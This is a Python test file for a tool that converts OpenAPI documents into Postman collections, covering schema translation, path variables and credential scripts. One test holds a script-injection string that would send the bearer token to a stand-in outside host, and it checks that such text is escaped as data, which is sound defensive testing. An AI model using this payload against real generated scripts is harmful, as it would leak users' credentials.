"""What a collection is made of: schemas of draft 7, variables of paths and what fills them, credentials."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from banyan.errors import BadDocument
from banyan.openapi.reading import document_of
from contracts.postman.blanks import blanks, teaches
from contracts.postman.collection import render
from contracts.postman.document import Api, api_of
from contracts.postman.schemas import answer_schema
from tests.contracts.postman.shop import DOCUMENT, ONE, TEA


def api(paths: dict[str, Any], **others: Any) -> Api:
    whole = {"openapi": "3.1.0", "info": {"title": "t", "version": "1"}, "paths": paths, **others}
    return api_of(document_of(Path("openapi.json"), json.dumps(whole)))


@pytest.mark.parametrize(
    ("changes", "is_good"),
    [
        ({}, True),
        ({"kind": "pot"}, True),
        ({"weight": None}, True),
        ({"kind": "cup"}, False),
        ({"weight": 0}, False),
        ({"weight": "heavy"}, False),
        ({"price": 1.5}, False),
    ],
)
def test_schemas_of_3_0_mean_the_same_in_draft_7(changes, is_good):
    schema = answer_schema(ONE, DOCUMENT)
    jsonschema.Draft7Validator.check_schema(schema)
    assert jsonschema.Draft7Validator(schema).is_valid({**TEA, **changes}) is is_good


def test_schemas_of_3_1_mean_the_same_in_draft_7():
    tree = {
        "type": ["object", "null"],
        "properties": {
            "pair": {"type": "array", "prefixItems": [{"type": "string"}, {"const": 2}], "items": False},
            "below": {"$ref": "#/components/schemas/Tree", "description": "leads back"},
            "many": {"type": "integer", "exclusiveMinimum": 0},
        },
    }
    schema = answer_schema(tree, {"openapi": "3.1.0", "components": {"schemas": {"Tree": tree}}})
    validator = jsonschema.Draft7Validator(schema)
    good = ({"pair": ["a", 2]}, None, {"below": {"below": None}}, {"many": 1})
    bad = ({"pair": [1, 2]}, 3, {"below": {"below": 3}}, {"many": 0})
    assert [validator.is_valid(each) for each in (*good, *bad)] == [True] * 4 + [False] * 4


def test_blanks_are_filled_by_the_list_above_them():
    number = {"name": "order_number", "in": "path", "required": True, "schema": {"type": "string"}}
    rows = {"type": "array", "items": {"type": "object", "properties": {"id": {}, "number": {}}}}
    found = api(
        {
            "/orders/": {"get": {"responses": {"200": {"content": {"application/json": {"schema": rows}}}}}},
            "/orders/{order_number}/lines/{id}.{ext}": {"get": {"parameters": [number], "responses": {}}},
        }
    )
    listed, one = found.operations()
    own = blanks(one, found)
    assert [each.variable for each in own] == ["orders_order_number", "lines_id", "lines_ext"]
    assert teaches(listed, found, {each.variable: each for each in own}) == {"orders_order_number": "number"}
    assert teaches(one, found, {each.variable: each for each in own}) == {}
    (_, single) = render(found).collection["item"]
    assert single["item"][0]["item"][0]["request"]["url"]["path"] == [
        "orders", "{{orders_order_number}}", "lines", "{{lines_id}}.{{lines_ext}}",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("scheme", "variables", "sent"),
    [
        ({"type": "http", "scheme": "basic"}, ["it_username", "it_password"], '"Basic " + btoa('),
        ({"type": "oauth2", "flows": {}}, ["it"], '"Bearer " + known("it")'),
        ({"type": "apiKey", "in": "header", "name": "X-Key"}, ["it"], 'key: "X-Key", value: known("it")'),
        ({"type": "apiKey", "in": "query", "name": "key"}, ["it"], "addQueryParams"),
        ({"type": "apiKey", "in": "cookie", "name": "sessionid"}, ["csrftoken", "it"], '"sessionid=" + known("it")'),
    ],
)
def test_credentials_are_sent_once_their_variable_has_a_value(scheme, variables, sent):
    guarded: dict[str, Any] = {"post": {"security": [{"it": []}], "responses": {}}}
    rendered = render(api({"/a/": guarded}, components={"securitySchemes": {"it": scheme}}))
    values = rendered.environment["values"]
    assert sorted(each["key"] for each in values if each["type"] == "secret") == sorted(variables)
    script = "\n".join(rendered.collection["item"][0]["item"][0]["item"][0]["event"][0]["script"]["exec"])
    assert sent in script
    assert "pm.execution.skipRequest()" in script


def test_texts_of_a_document_are_data_in_scripts():
    nasty = '"});pm.sendRequest("http://elsewhere.invalid/{{bearer}}");//'
    document = copy.deepcopy(DOCUMENT)
    document["paths"]["/products/"]["get"]["responses"][nasty] = {"description": nasty}
    found = render(api_of(document_of(Path("openapi.json"), json.dumps(document))))
    lines = found.collection["item"][0]["item"][1]["item"][0]["event"][0]["script"]["exec"]
    (said,) = [line for line in lines if "elsewhere" in line]
    start = 'pm.variables.set("promised", JSON.stringify('
    assert json.loads(said.removeprefix(start).removesuffix("));"))["answers"][nasty] == {}


def test_a_document_in_several_files_is_refused(tmp_path):
    (tmp_path / "other.json").write_text('{"a": {"type": "string"}}')
    schema = {"$ref": "other.json#/a"}
    whole = {"openapi": "3.1.0", "paths": {}, "components": {"schemas": {"A": schema}}}
    with pytest.raises(BadDocument, match=r"it refers to other files, and a collection is made of one: other\.json"):
        api_of(document_of(tmp_path / "openapi.json", json.dumps(whole)))
